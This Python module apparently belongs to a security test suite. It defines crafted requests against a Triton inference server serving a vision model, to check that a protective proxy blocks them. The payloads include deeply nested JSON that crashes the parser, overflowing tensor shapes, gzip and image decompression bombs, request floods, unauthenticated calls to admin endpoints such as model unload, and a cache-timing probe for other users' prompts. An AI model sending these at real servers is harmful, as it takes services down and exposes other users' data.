"""Requests that once crashed, froze, starved or spied on a server, each as something that is sent once.

Those through gRPC need a guard in front of Triton: sent to Triton itself some of them still end it. Send them
to servers of your own.
"""

import asyncio
import base64
import gzip
import json
import random
from collections.abc import Awaitable, Callable, Mapping
from dataclasses import dataclass, field
from functools import cache, partial
from typing import Any

import grpc  # type: ignore[import-untyped]
from tritonclient.grpc import service_pb2

from kestrel_tools.bench.attacks.doors import (
    Outcome,
    Target,
    call_grpc,
    connected,
    head,
    outcome_of,
    post,
    send_http,
)
from kestrel_tools.bench.attacks.pictures import gif_bomb, png_bomb

MB = 1_000_000
DEPTH = 107_500  # levels of JSON that end Triton's parser, and with it the server
GENERATE = "/v2/models/moondream/generate"
QUESTION = "What is this?"
Send = Callable[[Target], Awaitable[Outcome]]
REFUSED: frozenset[Outcome] = frozenset(("refused",))
REFUSED_OR_CLOSED: frozenset[Outcome] = frozenset(("refused", "closed"))  # in the middle of what was sent
HARMLESS: frozenset[Outcome] = frozenset(("refused", "answered"))


@dataclass(frozen=True, slots=True)
class Attack:
    """`clients` of them send it over and over; every outcome must be one of `right`."""

    name: str
    send: Send
    right: frozenset[Outcome] = REFUSED
    clients: int = 1
    needs_grpc: bool = field(default=False, kw_only=True)

    async def __call__(self, target: Target) -> Outcome:
        return await outcome_of(self.send(target))


def tensor(request: Any, name: str, datatype: str, shape: list[int], raw: bytes | None = None) -> None:
    made = request.inputs.add()
    made.name, made.datatype = name, datatype
    made.shape.extend(shape)
    if raw is not None:
        request.raw_input_contents.append(raw)


def words(*values: bytes) -> bytes:
    """Strings as a tensor holds them: the length of each before it."""
    return b"".join(len(value).to_bytes(4, "little") + value for value in values)


def infer_request(**texts: bytes) -> Any:
    request = service_pb2.ModelInferRequest(model_name="moondream")
    for name, text in ({"SKILL": b"query", "QUESTION": QUESTION.encode()} | texts).items():
        tensor(request, name, "BYTES", [1], words(text))
    return request


async def overflowing_shape(target: Target, shape: tuple[int, ...]) -> Outcome:
    """The product of its sides is 0 in 64 bits, so no data is missing."""
    request = infer_request()
    tensor(request, "SPATIAL_REFS", "FP32", list(shape), b"")
    return await call_grpc(target, request.SerializeToString())


async def deep_json(target: Target, path: str, kind: str) -> Outcome:
    body = b'{"SKILL":"query","x":' + b"[" * DEPTH
    return (await send_http(target, path, body, {"Content-Type": kind})).outcome


async def one_byte_chunks(target: Target, path: str) -> Outcome:
    """Deep JSON again, a byte at a time."""
    chunks = b"1\r\n[\r\n" * DEPTH + b"0\r\n\r\n"
    async with connected(target) as (reader, writer):
        given = {"Content-Type": "application/json", "Transfer-Encoding": "chunked"}
        writer.write(head(target, path, given) + chunks)
        status = (await reader.readline()).split()[1:2]
    return "closed" if not status else "refused" if status[0].startswith(b"4") else "broken"


async def rest(target: Target, path: str, make: Callable[[], Mapping[str, Any]]) -> Outcome:
    return (await send_http(target, path, encoded(make))).outcome


@cache
def encoded(make: Callable[[], Mapping[str, Any]]) -> bytes:
    """Once for all: whoever attacks must not be kept busy by it."""
    return json.dumps(make()).encode()


async def over_grpc(target: Target, make: Callable[[], bytes]) -> Outcome:
    return await call_grpc(target, make())


def question(size: int) -> dict[str, Any]:
    return {"question": "why " * (size // 4)}


@cache
def long_question(size: int) -> bytes:
    data: bytes = infer_request(QUESTION=b"why " * (size // 4)).SerializeToString()
    return data


@cache
def many_rows() -> bytes:
    request = infer_request()
    tensor(request, "SPATIAL_REFS", "FP32", [MB, 2], bytes(8 * MB))
    data: bytes = request.SerializeToString()
    return data


@cache
def many_stops() -> bytes:
    request = infer_request()
    tensor(request, "STOP", "BYTES", [MB], words(b"x") * MB)
    data: bytes = request.SerializeToString()
    return data


async def error_header(target: Target) -> Outcome:
    """Several errors on one stream: by this header Triton ends it at the first, and itself at others."""
    message = infer_request(SKILL=b"nothing of ours").SerializeToString()
    return await call_grpc(target, message, (("triton_grpc_error", "true"),), times=3)


async def administer_http(target: Target, path: str) -> Outcome:
    return (await send_http(target, path, b'{"log_verbose_level": 1}')).outcome


async def administer_grpc(target: Target, method: str) -> Outcome:
    """Any answer is too much. Nothing is sent with it: who is let in at all is the question."""
    return await call_grpc(
        target, b"", method=f"/inference.GRPCInferenceService/{method}", read=lambda data: 0
    )


async def hang_up(target: Target) -> Outcome:
    """A long question, and nobody who waits for the answer."""
    body = b'{"question": "Tell me everything.", "settings": {"max_tokens": 700, "temperature": 1.5}}'
    given = {"Content-Type": "application/json", "Content-Length": str(len(body))}
    async with connected(target) as (_, writer):
        writer.write(head(target, "/v1/query", given) + body)
        await writer.drain()
        await asyncio.sleep(0.05)  # it is to have arrived
    return "closed"


async def flood(target: Target, number: int) -> Outcome:
    """So many at once. One that is hung or broken stands for all."""
    sent = (outcome_of(rest(target, "/v1/query", short_question)) for _ in range(number))
    found: set[Outcome] = set(await asyncio.gather(*sent))
    bad: tuple[Outcome, ...] = ("hung", "broken", "closed")
    return next((one for one in bad if one in found), "answered")


def short_question() -> dict[str, Any]:
    return {"question": QUESTION, "settings": {"max_tokens": 2}}


async def guess(target: Target) -> Outcome:
    """What others asked, by how much of it is computed already."""
    fields = {"question": f"My number is {random.randrange(10**8):08}.", "settings": {"max_tokens": 1}}
    return (await post(target, "/v1/query", fields)).outcome


async def gzipped(target: Target, path: str) -> Outcome:
    given = {"Content-Encoding": "gzip"}
    return (await send_http(target, path, zipped(), given)).outcome


@cache
def zipped() -> bytes:
    return gzip.compress(b'{"question": "' + b" " * 300 * MB + b'"}')


async def gzipped_grpc(target: Target) -> Outcome:
    return await call_grpc(target, long_question(300 * MB), compression=grpc.Compression.Gzip)


def picture(file: bytes) -> dict[str, Any]:
    return {"question": QUESTION, "image_url": f"data:image/png;base64,{base64.b64encode(file).decode()}"}


SHAPES = ((2**31, 2**31), (2**32, 2**30), (2**62, 4), (2**63 - 1, 2))
ADMINISTRATION = (
    "/v2/logging",
    "/v2/trace/setting",
    "/v2/repository/index",
    "/v2/repository/models/moondream/unload",
    "/v2/systemsharedmemory/status",
    "/v2/systemsharedmemory/region/a/register",
    "/v2/models/moondream/stats",
)
RPCS = (
    "LogSettings",
    "TraceSetting",
    "RepositoryIndex",
    "RepositoryModelUnload",
    "ModelStatistics",
    "SystemSharedMemoryStatus",
    "SystemSharedMemoryRegister",
)


ATTACKS: tuple[Attack, ...] = (
    *(
        Attack(f"overflowing shape {shape}", partial(overflowing_shape, shape=shape), needs_grpc=True)
        for shape in SHAPES
    ),
    *(
        Attack(f"deep JSON to {path} as {kind}", partial(deep_json, path=path, kind=kind))
        for path in ("/v1/query", "/v1/chat/completions", GENERATE, "/v2/logging")
        for kind in ("application/json", "text/plain")
    ),
    Attack("deep JSON in chunks of a byte", partial(one_byte_chunks, path="/v1/query"), REFUSED_OR_CLOSED),
    *(
        Attack(
            f"a question of {size} MB",
            partial(rest, path="/v1/query", make=partial(question, size * MB)),
            REFUSED_OR_CLOSED,
        )
        for size in (1, 8, 64)
    ),
    Attack(
        "an object of 8 MB",
        partial(rest, path="/v1/detect", make=lambda: picture(b"") | {"object": "x" * 8 * MB}),
    ),
    Attack(
        "a million rows",
        partial(rest, path="/v1/query", make=lambda: {"question": "?", "spatial_refs": [[0.5, 0.5]] * MB}),
    ),
    Attack(
        "a million stops",
        partial(rest, path="/v1/query", make=lambda: {"question": "?", "settings": {"stop": ["x"] * MB}}),
    ),
    *(
        Attack(
            f"a question of {size} MB over gRPC",
            partial(over_grpc, make=partial(long_question, size * MB)),
            REFUSED_OR_CLOSED,
            needs_grpc=True,
        )
        for size in (1, 8, 64)
    ),
    Attack("a million rows over gRPC", partial(over_grpc, make=many_rows), needs_grpc=True),
    Attack("a million stops over gRPC", partial(over_grpc, make=many_stops), needs_grpc=True),
    Attack("Triton's error header", error_header, needs_grpc=True),
    *(Attack(f"administration: {path}", partial(administer_http, path=path)) for path in ADMINISTRATION),
    *(
        Attack(
            f"administration: {method}",
            partial(administer_grpc, method=method),
            REFUSED_OR_CLOSED,
            needs_grpc=True,
        )
        for method in RPCS
    ),
    Attack("guessing by what is cached", guess, HARMLESS),
    Attack("700 at once", partial(flood, number=700), HARMLESS),
    Attack("long questions, then hanging up", hang_up, frozenset(("closed",)), clients=40),
    Attack(
        "the least priority number there is",
        partial(rest, path="/v1/query", make=lambda: {"question": "?", "priority": -(2**31)}),
        clients=8,
    ),
    Attack("gzip that unpacks to 300 MB", partial(gzipped, path="/v1/query"), REFUSED_OR_CLOSED),
    Attack(
        "gzip that unpacks to 300 MB, to Triton's path", partial(gzipped, path=GENERATE), REFUSED_OR_CLOSED
    ),
    Attack("gzip that unpacks to 300 MB over gRPC", gzipped_grpc, REFUSED_OR_CLOSED, needs_grpc=True),
    *(
        Attack(name, partial(rest, path="/v1/query", make=partial(picture, make())), HARMLESS, clients=16)
        for name, make in (("a GIF of 43 bytes", gif_bomb), ("a PNG of 12 kB", png_bomb))
    ),
)
